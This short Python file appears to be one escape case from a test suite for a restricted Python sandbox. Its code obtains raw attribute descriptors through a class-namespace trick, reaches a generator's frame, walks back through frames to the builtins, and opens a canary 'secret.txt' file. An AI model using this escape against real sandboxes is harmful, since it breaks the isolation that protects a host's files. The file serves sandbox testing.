# z06_fields_class [escape]: the class of x.__dict__ makes a copy of the namespace of any object, with its raw descriptors
class A:
    pass


Space = type(A().__dict__)


def raw(kind, obj, name):
    return Space(kind)[name].__get__(obj)


def gen():
    yield 1


def solver(a, b):
    g = gen()
    next(g)
    frame = raw(type(g), g, "gi_" + "frame")
    while frame:
        space = raw(type(frame), frame, "f_" + "builtins")
        try:
            return space["open"]("@CANARY@/secret.txt").read()
        except NameError:
            frame = raw(type(frame), frame, "f_" + "back")
